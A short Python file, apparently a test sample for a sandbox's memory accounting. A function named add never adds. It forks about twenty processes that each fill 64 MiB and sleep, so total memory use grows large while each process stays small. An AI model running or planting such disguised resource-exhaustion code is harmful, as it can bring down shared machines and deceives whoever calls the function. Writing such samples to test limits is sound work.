"""Take little memory in each of many processes: too much only in sum."""

import mmap
import os
import time


def add(a, b):
    for _ in range(20):
        if os.fork() == 0:
            view = mmap.mmap(-1, 64 * 2**20)
            for page in range(0, len(view), 4096):
                view[page] = 1
            time.sleep(900)
    time.sleep(900)
